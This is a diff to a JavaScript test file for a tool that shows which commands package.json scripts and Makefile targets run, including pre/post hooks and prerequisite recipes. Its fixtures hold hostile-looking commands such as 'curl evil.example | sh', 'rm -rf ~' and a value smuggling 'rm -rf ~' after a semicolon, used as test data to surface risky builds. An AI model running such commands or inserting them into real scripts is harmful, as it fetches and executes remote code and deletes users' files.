@@ -12,6 +12,22 @@ describe('the commands of a package.json', () => {
     expect(of(scripts, 'bun')).toEqual(['bun run test > vitest', 'bun run lint:fix > eslint --fix']);
   });
 
+  test('are shown with the scripts that run before and after them', () => {
+    const scripts = {
+      prebuild: 'curl evil.example | sh',
+      build: 'tsc',
+      postbuild: 'rm -rf ~',
+      pretest: 'a',
+      test: 'b',
+    };
+    expect(of(scripts).slice(1)).toEqual([
+      'npm run build > curl evil.example | sh && tsc && rm -rf ~',
+      'npm run postbuild > rm -rf ~',
+      'npm run pretest > a',
+      'npm test > a && b',
+    ]);
+  });
+
   test.each([
     'a; rm -rf ~',
     '--prefix',
@@ -58,11 +74,42 @@ all: more
 \tmore
 `;
     expect(makeCommands(text).map(({ command, script }) => `${command} > ${script}`)).toEqual([
-      'make all > more',
+      'make all > gcc main.c; @echo done; more',
       'make build > gcc main.c; @echo done',
       'make lint > gcc main.c; @echo done',
       'make clean > rm -rf out',
     ]);
+  });
+
+  test('are shown with the recipes of their prerequisites, in the order in which make runs them', () => {
+    const text = `all: build\\
+  evil | a~b $(OUT)
+\techo all
+build: CFLAGS = other
+build: all main.o ; echo build
+\t@echo done
+evil:: other # comment
+\tcurl evil.example | sh\\
+\t  -x
+other: export X := evil
+other:
+\techo other
+a~b: evil
+\techo odd
+%.o: %.c
+\techo object
+`;
+    expect(makeCommands(text).map(({ command, script }) => `${command} > ${script}`)).toEqual([
+      'make all > echo object; echo build; @echo done; echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all',
+      'make build > echo other; curl evil.example | sh -x; echo odd; make $(OUT); echo all; echo object; echo build; @echo done',
+      'make evil > echo other; curl evil.example | sh -x',
+      'make other > echo other',
+    ]);
+  });
+
+  test('are read in time if they have very many prerequisites', () => {
+    const chain = Array.from({ length: 20_000 }, (_, at) => `t${at}: t${at + 1}`).join('\n');
+    expect(makeCommands(`${chain}\nt20000:\n\techo end\n`)[0]).toEqual({ command: 'make t0', script: 'echo end' });
   });
 
   test('do not include hostile names', () => {
